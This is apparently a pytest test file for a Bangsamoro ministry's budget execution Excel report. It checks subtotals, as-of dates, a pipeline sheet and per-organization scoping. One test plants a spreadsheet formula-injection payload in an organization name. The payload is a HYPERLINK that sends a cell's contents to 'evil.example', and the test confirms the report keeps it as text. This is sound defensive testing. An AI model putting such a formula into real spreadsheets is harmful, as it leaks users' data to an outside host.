"""The MFBM Budget Execution Report as corrected by issue 13 (docs/design.md
§8), read back with openpyxl: enacted PPAs only, by MOA and allotment class,
the DBM columns, subtotals by MOA and by class and a grand total equal to
sums computed here from what the test posted, to the centavo; an as-of
date; a "Pipeline" sheet for the PPAs not enacted; the ministry's name as
officially written; a focal person's report names their organization."""

from __future__ import annotations

from collections import defaultdict
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from tests.support import Chain, certify_ors, cli, enact_proposal, pay_dv

HEADERS = ["PPA Code", "PPA Title", "Implementing MOA", "Allotment Class", "Appropriation", "Allotments",
           "Obligations", "Disbursements", "Unreleased Appropriation", "Unobligated Allotments", "Unpaid Obligations",
           "Obligation Rate", "Disbursement Rate", "Physical Progress %", "SPI", "CPI", "Remarks"]
REMARKS = HEADERS.index("Remarks")
MONEY = slice(4, 11)  # Appropriation .. Unpaid Obligations
ZERO = Decimal("0.00")
LEVELS = ("allotted", "obligated", "disbursed")


class Execution(Chain):
    """An enacted PPA of ``moa`` with a program budget in one or two
    classes, and a record of every amount posted (class, level, date,
    amount) so that the test sums them itself."""

    def __init__(self, world, focal, moa: str, title: str, classes: dict[str, str], budget: str):
        self.world, self.counter, self.dates, self.posted, self.focal, self.moa = world, 0, {}, [], focal, moa
        self.ppa = world.create_ppa(focal, title=title, budget_allocation=budget, program_code=f"{moa}-{title[:4]}")["id"]
        assert world.fire(self.ppa, "submit", focal).status_code == 200  # by the PPA's own MOA
        world.advance(self.ppa, "enacted")
        self.proposal = self.post("/api/budget-proposals", focal, organization=moa, fiscal_year=2025,
                                  title=f"{moa} FY2025")["id"]
        self.program_budget = self.post("/api/program-budgets", world.budget_analyst, proposal_id=self.proposal,
                                        ppa_id=self.ppa, **classes)["id"]
        enact_proposal(world, self.proposal, submitter=focal)
        self.appropriations = {k: Decimal(v) for k, v in classes.items()}

    def allot_class(self, klass: str, amount: str, day: str) -> int:
        body = self.post("/api/allotments", self.world.budget_analyst, program_budget_id=self.program_budget,
                         release_date=day, saro_number=self.number("SARO"), allotment_class=klass, amount=amount)
        self.posted.append((klass, "allotted", date.fromisoformat(day), Decimal(amount)))
        return body["id"]

    def obligate_class(self, klass: str, allotment: int, amount: str, day: str) -> int:
        body = self.post("/api/obligations", self.focal, allotment_id=allotment, payee="Cotabato Cooperative",
                         obligation_date=day, amount=amount)
        certify_ors(self.world, body["id"], org=self.moa)  # Boxes A and B: it obligates
        self.posted.append((klass, "obligated", date.fromisoformat(day), Decimal(amount)))
        return body["id"]

    def cancel_obligation(self, klass: str, obligation: int, amount: str, day: str) -> None:
        self.post(f"/api/obligations/{obligation}/cancel", self.focal, reason="rescinded", cancelled_on=day)
        self.posted.append((klass, "obligated", date.fromisoformat(day), -Decimal(amount)))

    def disburse_class(self, klass: str, obligation: int, amount: str, day: str) -> None:
        body = self.post("/api/disbursements", self.focal, obligation_id=obligation, payment_method="mds_check",
                         disbursement_date=day, amount=amount)
        pay_dv(self.world, body["id"], day, org=self.moa)  # Boxes A to E: it is paid
        self.posted.append((klass, "disbursed", date.fromisoformat(day), Decimal(amount)))

    def expected(self, as_of: date) -> dict[str, dict[str, Decimal]]:
        """{class: {appropriation, allotted, obligated, disbursed}} summed here, up to ``as_of``."""
        out: dict[str, dict[str, Decimal]] = defaultdict(lambda: dict.fromkeys(("appropriation", *LEVELS), ZERO))
        for klass, amount in self.appropriations.items():
            out[klass]["appropriation"] += amount
        for klass, level, day, amount in self.posted:
            if day <= as_of:
                out[klass][level] += amount
        return out


@pytest.fixture
def execution(world):
    """MSSD: an enacted PPA appropriated in MOOE and CO, with allotments,
    ORS (one cancelled in August) and DVs through the year, a draft PPA and
    one in technical review; MTIT: an enacted PPA in MOOE."""
    mssd = Execution(world, world.focal, "MSSD", "Livelihood Training", {"mooe": "3000000.00", "co": "1500000.00"},
                     "5000000.00")
    mooe = mssd.allot_class("mooe", "2000000.00", "2025-02-03")
    co = mssd.allot_class("co", "1000000.00", "2025-04-01")
    training = mssd.obligate_class("mooe", mooe, "1234567.89", "2025-03-10")
    rescinded = mssd.obligate_class("mooe", mooe, "100000.00", "2025-03-12")
    equipment = mssd.obligate_class("co", co, "600000.01", "2025-05-05")
    mssd.cancel_obligation("mooe", rescinded, "100000.00", "2025-08-01")
    mssd.disburse_class("mooe", training, "1000000.00", "2025-03-31")
    mssd.disburse_class("co", equipment, "250000.50", "2025-07-01")
    mtit = Execution(world, world.other_focal, "MTIT", "Halal Workshop", {"mooe": "850000.00"}, "850000.00")
    halal = mtit.allot_class("mooe", "850000.00", "2025-02-10")
    mtit.obligate_class("mooe", halal, "425000.00", "2025-06-30")
    world.create_ppa(title="Cash-for-Work, Marawi", budget_allocation="10499999.99", program_code="MSSD-CFW-011")
    reviewing = world.create_ppa(title="Sports Fest", budget_allocation="300000.00", program_code="MSSD-SPF-001")
    world.fire(reviewing["id"], "submit", world.focal)
    return {"MSSD": mssd, "MTIT": mtit}


def exact(value):
    """A number as written (openpyxl reads floats; the shortest repr restores the decimal text)."""
    return Decimal(str(value)) if isinstance(value, (int, float)) and not isinstance(value, bool) else value


def fetch(world, who, query: str):
    response = world.client.get(f"/api/reports/mfbm-budget-execution.xlsx?fiscal_year=2025{query}",
                                headers=who.headers)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return load_workbook(BytesIO(response.get_data()))


def table(ws):
    """(titles, headers, rows) of a sheet: the rows below its header up to
    the first blank one (a footnote follows), values exact."""
    header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "PPA Code")
    titles = [ws.cell(r, 1).value for r in range(1, header_row)]
    rows = []
    for r in range(header_row + 1, ws.max_row + 1):
        if ws.cell(r, 1).value is None:
            break
        rows.append([exact(c.value) for c in ws[r]])
    return titles, [c.value for c in ws[header_row]], rows


def rate(part: Decimal, whole: Decimal) -> Decimal | None:
    return (part / whole).quantize(Decimal("0.0001")) if whole else None


def check_line(row: list, figures: dict[str, Decimal]) -> None:
    """Every money column and both rates of ``row`` against ``figures`` computed in the test."""
    appropriation, allotted, obligated, disbursed = (figures[k] for k in ("appropriation", *LEVELS))
    assert row[MONEY] == [appropriation, allotted, obligated, disbursed, appropriation - allotted,
                          allotted - obligated, obligated - disbursed]
    assert row[11] == rate(obligated, allotted) and row[12] == rate(disbursed, obligated)


def summed(parts) -> dict[str, Decimal]:
    parts = list(parts)
    return {k: sum((p[k] for p in parts), ZERO) for k in ("appropriation", *LEVELS)}


def test_enacted_ppas_by_moa_and_class_with_subtotals_and_grand_total_to_the_centavo(execution, world):
    as_of = date(2025, 12, 31)
    book = fetch(world, world.admin, "&as_of=2025-12-31")
    titles, headers, rows = table(book.worksheets[0])
    expected = {moa: chain.expected(as_of) for moa, chain in execution.items()}
    details = {(r[2], r[3]): r for r in rows if r[0] and not str(r[0]).startswith(("Subtotal", "GRAND"))}

    assert titles[:5] == ["Ministry of Finance, and Budget and Management",
                          "BANGSAMORO AUTONOMOUS REGION IN MUSLIM MINDANAO", "BUDGET EXECUTION REPORT - FY 2025",
                          "As of 31 December 2025", "All MOAs"]
    assert headers == HEADERS
    assert sorted(details) == [("MSSD", "CO"), ("MSSD", "MOOE"), ("MTIT", "MOOE")]  # enacted PPAs only
    for (moa, label), row in details.items():
        check_line(row, expected[moa][label.lower()])
    assert [r[0] for r in rows] == ["MSSD-Live", "MSSD-Live", "Subtotal MSSD", "MTIT-Hala", "Subtotal MTIT",
                                    "Subtotal MOOE", "Subtotal CO", "GRAND TOTAL"]
    by_code = {r[0]: r for r in rows}
    check_line(by_code["Subtotal MSSD"], summed(expected["MSSD"].values()))
    check_line(by_code["Subtotal MTIT"], summed(expected["MTIT"].values()))
    check_line(by_code["Subtotal MOOE"], summed([expected["MSSD"]["mooe"], expected["MTIT"]["mooe"]]))
    check_line(by_code["Subtotal CO"], summed([expected["MSSD"]["co"]]))
    check_line(by_code["GRAND TOTAL"], summed([*expected["MSSD"].values(), *expected["MTIT"].values()]))
    # the cancelled ORS is reversed: 1,234,567.89 obligated in MOOE, and 1,834,567.90 in all of MSSD
    assert by_code["Subtotal MSSD"][6] == Decimal("1834567.90")
    assert details[("MSSD", "MOOE")][13] == 0  # physical progress of a PPA not started
    assert details[("MSSD", "MOOE")][REMARKS] == "Physical progress behind obligations"
    # nothing paid of MTIT's ORS; 250,000.50 of 600,000.01 in MSSD's CO (rules/default/budget.yaml)
    assert details[("MTIT", "MOOE")][REMARKS] == "Low disbursement rate; Physical progress behind obligations"
    assert details[("MSSD", "CO")][REMARKS] == "Low disbursement rate; Physical progress behind obligations"


def test_figures_count_only_what_is_dated_on_or_before_the_as_of_date(execution, world):
    for as_of in (date(2025, 3, 31), date(2025, 7, 31), date(2025, 8, 1)):
        _, _, rows = table(fetch(world, world.admin, f"&moa=MSSD&as_of={as_of}").worksheets[0])
        details = {r[3]: r for r in rows[:2]}
        for label, row in details.items():
            check_line(row, execution["MSSD"].expected(as_of)[label.lower()])
    march = {r[3]: r for r in table(fetch(world, world.admin, "&moa=MSSD&as_of=2025-03-31").worksheets[0])[2][:2]}

    assert march["CO"][4:8] == [Decimal("1500000.00"), 0, 0, 0]  # appropriated; nothing allotted until April
    assert march["CO"][REMARKS] == "No allotment released yet"
    assert march["MOOE"][6] == Decimal("1334567.89")  # the ORS cancelled on 1 August still counts in March


def test_a_bad_as_of_date_is_refused_per_field(world):
    response = world.client.get("/api/reports/mfbm-budget-execution.xlsx?fiscal_year=2025&as_of=2025-13-01",
                                headers=world.admin.headers)

    assert response.status_code == 422 and "as_of" in response.get_json()["errors"]


def test_ppas_not_enacted_are_only_on_the_pipeline_sheet_after_the_main_one(execution, world):
    book = fetch(world, world.admin, "")
    _, _, main = table(book.worksheets[0])
    titles, headers, pipeline = table(book["Pipeline (not enacted)"])

    assert book.sheetnames == ["Budget Execution FY2025", "Pipeline (not enacted)"]
    assert "Cash-for-Work, Marawi" not in {r[1] for r in main} and "Sports Fest" not in {r[1] for r in main}
    assert headers == ["PPA Code", "PPA Title", "Implementing MOA", "Appropriation Class", "Proposed Budget",
                       "Approval Stage"]
    assert "Not in the Budget Execution Report's figures" in titles
    assert sorted((r[1], r[4], r[5]) for r in pipeline) == [
        ("Cash-for-Work, Marawi", Decimal("10499999.99"), "Draft"), ("Sports Fest", Decimal("300000.00"),
                                                                     "Technical review")]


def test_a_focal_persons_report_names_their_organization_and_holds_only_its_rows(execution, world):
    book = fetch(world, world.other_focal, "&as_of=2025-12-31")
    titles, _, rows = table(book.worksheets[0])
    _, _, pipeline = table(book.worksheets[1])

    assert titles[4] == "MTIT — Organization MTIT"
    assert "All MOAs" not in titles
    assert {r[2] for r in rows if r[2]} == {"MTIT"}
    assert rows[-1][0] == "GRAND TOTAL" and rows[-1][4:8] == [Decimal("850000.00"), Decimal("850000.00"),
                                                              Decimal("425000.00"), 0]
    assert [r for r in pipeline if any(r)] == []


def test_a_formula_for_an_organization_name_stays_text_in_the_report(execution, world):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    organization = next(o for o in world.client.get("/api/organizations?page_size=100",
                                                    headers=world.admin.headers).get_json() if o["code"] == "MTIT")
    path = f"/api/organizations/{organization['id']}"
    etag = world.client.get(path, headers=world.admin.headers).headers["ETag"]
    response = world.client.patch(path, json={"name": hostile}, headers=world.admin.headers | {"If-Match": etag})
    assert response.status_code == 200, response.get_json()

    cell = fetch(world, world.other_focal, "").worksheets[0].cell(5, 1)

    assert (cell.value, cell.data_type) == (f"MTIT — {hostile}", "s")


def test_the_cli_writes_the_report_as_of_a_day(app, execution, tmp_path):
    out = tmp_path / "mfbm.xlsx"

    result = cli(app, "report", "mfbm", "--fiscal-year", "2025", "--moa", "MSSD", "--as-of", "2025-03-31",
                 "--out", str(out))

    assert result.exit_code == 0, result.output
    titles, _, rows = table(load_workbook(out).worksheets[0])
    assert titles[3:5] == ["As of 31 March 2025", "MSSD — Organization MSSD"]
    assert rows[-1][0] == "GRAND TOTAL" and rows[-1][5] == Decimal("2000000.00")


def test_a_report_job_keeps_its_as_of_date(execution, world):
    accepted = world.client.get("/api/reports/mfbm-budget-execution.xlsx?fiscal_year=2025&moa=MSSD"
                                "&as_of=2025-03-31&async=true", headers=world.admin.headers)
    assert accepted.status_code == 202, accepted.get_data(as_text=True)[:300]

    download = world.client.get(f"/api/reports/files/{accepted.get_json()['job_id']}", headers=world.admin.headers)

    titles, _, rows = table(load_workbook(BytesIO(download.get_data())).worksheets[0])
    assert titles[3] == "As of 31 March 2025"
    check_line(rows[-1], summed(execution["MSSD"].expected(date(2025, 3, 31)).values()))
